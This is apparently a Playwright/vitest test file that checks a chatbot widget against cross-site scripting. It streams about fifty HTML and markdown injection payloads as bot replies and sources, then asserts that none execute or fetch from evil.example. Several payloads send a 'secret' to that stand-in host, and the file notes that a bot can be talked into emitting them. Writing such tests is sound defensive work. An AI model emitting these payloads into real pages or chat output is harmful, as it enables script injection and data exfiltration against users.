import { launchBrowser } from '#server/testing/browser.ts'
import type { Browser, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { done, FakeServer, say } from './testing/fake-server.ts'
import { visit } from './testing/visit.ts'

// What a bot may be talked into saying, and a page into teaching it. Each would call `attack` or a foreign server.
const EVIL = 'https://evil.example'
const PAYLOADS = [
  '<script>attack()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=attack()>',
  '<img src="https://evil.example/?d=secret">',
  '<svg/onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<math><mtext><img src=x onerror=attack()></mtext></math>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<iframe src="javascript:attack()"></iframe>',
  '<object data="javascript:attack()"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/b) }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button autofocus onfocus=attack()>x</button></form>',
  '<input autofocus onfocus=attack()>',
  '<details open ontoggle=attack()>x</details>',
  '<video src=x onerror=attack()></video>',
  '<a href="javascript:attack()">x</a>',
  '<b onmouseover="attack()">x</b>',
  '</div></section><script>attack()</script>',
  '<!--><img src=x onerror=attack()>-->',
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '[x](javascript:attack())',
  '[x](JaVaScRiPt:attack())',
  '[x](javascript&colon;attack())',
  '[x](&#106;avascript:attack())',
  '[x](java\tscript:attack())',
  '[x]( javascript:attack())',
  '[x](<javascript:attack()>)',
  '[x](\u0001javascript:attack())',
  '[x](vbscript:attack())',
  '[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>attack()</script>)',
  '[x](blob:https://evil.example/1)',
  '[x](https://shop.example@evil.example/)',
  '[x](https://a.example/" onmouseover="attack())',
  '[x" onmouseover="attack()](https://a.example/)',
  '[![x](https://evil.example/i.png)](javascript:attack())',
  '![x](https://evil.example/?d=secret)',
  '![" onerror="attack()](x)',
  '![x][r]\n\n[r]: https://evil.example/?d=secret',
  '[x][r]\n\n[r]: javascript:attack()',
  '<javascript:attack()>',
  '<https://a.example/"onclick="attack()>',
  'https://a.example/"onmouseover="attack()',
  '`<img src=x onerror=attack()>`',
  '```"><script>attack()</script>\n<img src=x onerror=attack()>\n```',
  '| <img src=x onerror=attack()> |\n|:-:|\n| <svg/onload=attack()> |',
  '# <img src=x onerror=attack()>',
  '- <img src=x onerror=attack()>\n  > <script>attack()</script>',
]
const SOURCES = [
  { title: '<img src=x onerror=attack()>', url: 'javascript:attack()', excerpt: '"><script>attack()</script>' },
  { title: 'x', url: 'data:text/html,<script>attack()</script>', excerpt: '' },
]

let browser: Browser
let server: FakeServer

beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())
beforeEach(async () => {
  server = await new FakeServer().open()
})
afterEach(() => server.close())

/** Elements and attributes that an answer is made of; anything else came from the text itself. */
const MADE_HERE =
  /^(P|BR|HR|A|SPAN|EM|STRONG|S|CODE|PRE|UL|OL|LI|BLOCKQUOTE|DIV|TABLE|THEAD|TBODY|TR|TH|TD)( (class|tabindex|start|style|href|target|rel))*$/

const inspect = (page: Page) =>
  page.evaluate(() => {
    const root = document.querySelector('#chatbot-widget-host')?.shadowRoot
    const made = [...(root?.querySelectorAll('.bubble *') ?? [])].map((element) =>
      [element.tagName, ...element.getAttributeNames()].join(' '),
    )
    const links = [...(root?.querySelectorAll('a') ?? [])].map(({ href }) => href).filter((href) => href !== '')
    return { made, links }
  })

test('runs and loads nothing of what a bot says, in the stream or from memory', async () => {
  const text = PAYLOADS.join('\n\n')
  server.reply = () => [...say(...(text.match(/[\s\S]{1,3}/g) ?? [])), done(...SOURCES)]
  const requests: string[] = []
  const { page, launcher, log, ask, errors } = await visit(browser, server, {
    prepare: async (opened) => {
      await opened.exposeFunction('attack', () => errors.push('an attack ran'))
      opened.on('request', (request) => requests.push(request.url()))
    },
  })
  await launcher.click()
  await ask(PAYLOADS.slice(0, 30).join('\n'))
  await log.getByRole('list', { name: 'Sources' }).waitFor()

  const check = async () => {
    for (const link of await log.getByRole('link').all()) await link.hover()
    const { made, links } = await inspect(page)
    expect(made.filter((element) => !MADE_HERE.test(element))).toEqual([])
    expect(links.filter((href) => !/^(https?|mailto|tel):/.test(href))).toEqual([])
    expect(links.some((href) => href.includes('@evil.example'))).toBe(false)
    expect(requests.filter((url) => url.startsWith(EVIL) || url.startsWith('data:'))).toEqual([])
    expect(errors).toEqual([])
  }
  await check()
  await page.reload()
  await log.getByRole('list', { name: 'Sources' }).waitFor()
  await check()
  await page.context().close()
})

test('takes the owner’s own words as words', async () => {
  const html = '<img src=x onerror=attack()>'
  server.config = { name: html, welcome_message: html, button_text: html, show_button_text: true }
  const { page, errors } = await visit(browser, server, {
    prepare: (opened) => opened.exposeFunction('attack', () => errors.push('an attack ran')),
  })
  await page.getByRole('button', { name: html }).click()
  await page.getByRole('dialog', { name: html }).getByText(html).first().waitFor()
  expect(await page.locator('#chatbot-widget-host img').count()).toBe(0)
  expect(errors).toEqual([])
  await page.context().close()
})
